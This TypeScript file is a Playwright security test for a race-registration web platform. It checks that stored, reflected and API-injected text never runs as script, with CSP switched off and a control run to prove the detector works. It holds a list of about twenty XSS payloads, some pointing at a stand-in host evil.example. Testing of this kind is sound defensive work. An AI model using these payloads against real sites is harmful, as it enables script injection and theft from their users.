import type { BrowserContext, Page, Route } from 'playwright'
import { inParallel } from '#lib/inParallel.ts'
import { saveRunner } from '#rehearse/entrySteps.ts'
import { idCard } from '#support/platform/entryFixtures.ts'
import { entryOf, makeOrder, RACE, signSample } from '../../support/entry.ts'
import { type Area, type Size, Tally } from '../area.ts'
import { logInOn, withBrowser } from '../browser.ts'
import type { Account, Target } from '../target.ts'

/** Calls `stole`, in every way that a text can become a script; short enough for a name. */
const SCRIPTS = [
  '<img src=x onerror=stole(1)>',
  '<svg onload=stole(1)>',
  '<script>stole(1)</script>',
  '"><img src=x onerror=stole(1)>',
  "'onfocus=stole(1) autofocus x='",
  '</title><svg/onload=stole(1)>',
  '</script><script>stole(1)</script>',
  '<iframe srcdoc="<script>top.stole(1)</script>">',
  '<a href=javascript:stole(1) id=x>x</a>',
  '<details open ontoggle=stole(1)>',
  '<math><mtext></p><img src onerror=stole(1)>',
  '<!--><img src=x onerror=stole(1)>-->',
  '<style>@import"//evil.example/x";</style>',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>',
  '<meta http-equiv=refresh content=0;//evil.example>',
  '{{constructor.constructor("stole(1)")()}}',
  'javascript:stole(1)',
  'data:text/html,<script>stole(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=stole(1)>">',
  '<template><img src=x onerror=stole(1)></template>',
  '&lt;img src=x onerror=stole(1)&gt;',
]
const QUERY = [
  'raceId',
  'itemId',
  'orderId',
  'entryId',
  'name',
  'url',
  'returnTo',
  'channel',
  'lang',
  'evidence',
  'tab',
  'title',
]
const ROUTES = [
  ...[
    '/Home',
    '/eventDetails',
    '/registration',
    '/login',
    '/eventOrder',
    '/payRes',
    '/payForwarding',
    '/orderDetails',
    '/nowhere',
  ],
]

/** Hostile texts stored, answered by the platform and brought by a link, shown in Chromium without its policy: none runs. */
export const storedText: Area = (target, size) =>
  withBrowser(async (browser) => {
    const tally = new Tally()
    const account = await target.account()
    const entries = await store(account, tally, size)
    const context = await browser.newContext({
      bypassCSP: true,
      locale: 'zh-CN',
      viewport: { width: 390, height: 844 },
    })
    await logInOn(context, account)
    const seen = await watched(context, target)
    await control(context, target, tally, seen)

    const stored = [
      ...['/eventItemPlayerManage', '/myOrder', `/registration?raceId=${RACE}&itemId=${RACE}04`],
      ...entries.flatMap(({ entryId, orderId }) => [
        `/eventOrder?entryId=${entryId}`,
        `/orderDetails?entryId=${entryId}`,
        `/eventItemPay?orderId=${orderId}`,
      ]),
    ]
    const showAll = (paths: string[]) => inParallel(paths, 3, (path) => show(context, target, tally, seen, path))
    await showAll(stored)

    const links = ROUTES.flatMap((route, at) =>
      SCRIPTS.filter((_, nth) => size === 'long' || nth % 11 === at % 11).map((text) => {
        const query = QUERY.map((name) => `${name}=${encodeURIComponent(text)}`).join('&')
        return `${route}?${query}#${encodeURIComponent(text)}`
      }),
    )
    await showAll(size === 'long' ? links : links.slice(0, 4))

    await context.route(/\/(api|center)\//, (route) => poisoned(route))
    await showAll(['/Home', `/eventDetails?raceId=${RACE}`, '/myOrder', ...stored.slice(2, 4)])
    tally.hold(seen.told > 0, () => 'no page showed a payload: nothing was proved')
    tally.note = `without the policy, ${SCRIPTS.length} payloads; ${seen.told} pages showed one as text; the control ran`
    return tally
  })

/** Saves what can be saved: answers of a form, the team's name. */
async function store({ device }: Account, tally: Tally, size: Size): Promise<{ entryId: string; orderId: string }[]> {
  const entries: { entryId: string; orderId: string }[] = []
  const texts = size === 'long' ? SCRIPTS : SCRIPTS.slice(0, 2)
  for (const text of texts) {
    // A name is letters: it must be refused, and the text goes where free words may stand.
    const named = await saveRunner(device, idCard(), { userName: text }).catch(() => null)
    tally.hold(named === null, () => `taken as a runner's name: ${text}`)
    if (entries.length >= 4) continue
    const player = await saveRunner(device, idCard())
    const entry = entryOf(`${RACE}04`, player, await signSample(device, `${RACE}04`))
    const form = { ...entry.form, emergencyName: text.slice(0, 20), residentialAddress: text }
    const teamName = text.slice(0, 40)
    const saved = await device.call('infoSaveV2', { ...entry, form, teamName })
    // A form may refuse such an answer: then the plain one is stored, with the hostile name of the team.
    const { entryId } = 'data' in saved ? saved.data : await device.ask('infoSaveV2', { ...entry, teamName })
    const orderId = await makeOrder(device, entryId)
    entries.push({ entryId, orderId })
  }
  return entries
}

interface Seen {
  stolen: string[]
  abroad: string[]
  /** Pages that showed a payload as the text it is. */
  told: number
}

/** Hears of scripts that ran and of requests to other hosts. */
async function watched(context: BrowserContext, target: Target): Promise<Seen> {
  const seen: Seen = { stolen: [], abroad: [], told: 0 }
  await context.exposeFunction('stole', () => void seen.stolen.push('a script'))
  context.on('request', (request) => {
    const url = request.url()
    if (/^https?:/.test(url) && !url.startsWith(target.address)) seen.abroad.push(url)
  })
  context.on('page', (page) => page.on('dialog', (dialog) => void dialog.dismiss()))
  return seen
}

/** The detector must see a script that does run. */
async function control(context: BrowserContext, target: Target, tally: Tally, seen: Seen): Promise<void> {
  const page = await context.newPage()
  await page.goto(`${target.address}/Home`)
  await page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), SCRIPTS[0] ?? '')
  for (let waited = 0; seen.stolen.length === 0 && waited < 10_000; waited += 100) await page.waitForTimeout(100)
  tally.hold(seen.stolen.length > 0, () => 'the control did not run: the policy was not taken away')
  seen.stolen.length = 0
  await page.close()
}

async function show(context: BrowserContext, target: Target, tally: Tally, seen: Seen, path: string): Promise<void> {
  const page = await context.newPage()
  await page.goto(`${target.address}${path}`, { waitUntil: 'load' })
  await settle(page)
  const planted = await page.evaluate(() => ({
    handlers: [...document.querySelectorAll('*')]
      .flatMap((one) => [...one.attributes])
      .filter(({ name }) => /^on/i.test(name)).length,
    links: [...document.querySelectorAll('[href],[src],[action]')].filter((one) =>
      /^\s*(javascript|data:text)/i.test(
        one.getAttribute('href') ?? one.getAttribute('src') ?? one.getAttribute('action') ?? '',
      ),
    ).length,
    text: document.body.textContent.trim().length,
    told: document.body.textContent.includes('stole(1)'),
  }))
  if (planted.told) seen.told += 1
  const here = page.url()
  await page.close()
  tally.count(200)
  const place = path.slice(0, 120)
  tally.hold(seen.stolen.length === 0, () => `${place}: a script ran`)
  tally.hold(seen.abroad.length === 0, () => `${place}: asks ${seen.abroad[0]}`)
  tally.hold(planted.handlers === 0, () => `${place}: ${planted.handlers} event handlers in the page`)
  tally.hold(planted.links === 0, () => `${place}: ${planted.links} links that run`)
  tally.hold(planted.text > 0, () => `${place}: a white page`)
  tally.hold(here.startsWith(target.address), () => `${place} has left for ${here}`)
  seen.stolen.length = 0
  seen.abroad.length = 0
}

/** Data is there, or has been said to be missing. */
async function settle(page: Page): Promise<void> {
  await page
    .waitForFunction(() => document.body.textContent.trim() !== '', null, { timeout: 6000 })
    .catch(() => undefined)
  // An order's page goes on asking: it is never idle.
  await page.waitForLoadState('networkidle', { timeout: 2000 }).catch(() => undefined)
}

/** An answer of the platform whose texts are all hostile; ids, dates and codes stay what they are. */
async function poisoned(route: Route): Promise<void> {
  try {
    const answer = await route.fetch()
    let at = 0
    const body = (await answer.text()).replace(
      /"(zh|en|name|userName|message|place|servicePhone|video|imgRecommend2|title|link)":"(?:[^"\\]|\\.)*"/g,
      (_, key) => `"${key}":${JSON.stringify(SCRIPTS[at++ % SCRIPTS.length])}`,
    )
    await route.fulfill({ response: answer, body })
  } catch {
    // The page was closed while its answer was on its way.
  }
}
